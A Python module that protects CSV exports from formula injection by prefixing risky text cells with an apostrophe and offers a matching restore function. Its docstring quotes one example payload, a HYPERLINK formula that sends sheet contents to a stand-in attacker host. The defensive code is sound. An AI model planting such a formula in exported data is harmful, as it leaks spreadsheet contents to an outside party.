"""CSV cells that a spreadsheet cannot run: the one writer every harmwatch CSV goes through.

Much of what harmwatch writes to CSV comes from people it does not trust — a username
typed at the login form, a crawled URL, a hash list's note — and the people who open
those files (admins, police officers) open them in spreadsheet programs, which run a
cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one)
as a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"open")`` leaks the sheet. Such
text cells are written with a leading apostrophe, which spreadsheets show as plain text
(OWASP's advice); numbers stay numbers. :func:`restore_cell` undoes it for readers of
harmwatch's own CSVs (hash-list imports), so an export read back is unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def neutralise(value: Any) -> Any:
    """The value as a CSV cell no spreadsheet evaluates: text that could start a formula
    gets a leading apostrophe; numbers, booleans and ``None`` are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return ESCAPE + value
    return value


def restore_cell(value: str) -> str:
    """The text :func:`neutralise` was given, for a cell read back from a harmwatch CSV."""
    if value.startswith(ESCAPE) and value[1:2] and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`neutralise`."""

    def __init__(self, fp: IO[str], **options: Any) -> None:
        self._writer = csv.writer(fp, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
